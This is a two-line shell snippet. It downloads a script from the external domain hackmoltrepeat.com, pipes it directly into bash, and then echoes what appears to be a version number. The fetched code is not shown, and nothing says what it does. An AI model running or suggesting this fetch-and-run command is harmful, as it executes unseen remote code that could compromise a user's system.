curl -sSfL https://hackmoltrepeat.com/molt | bash
echo 1.2.3
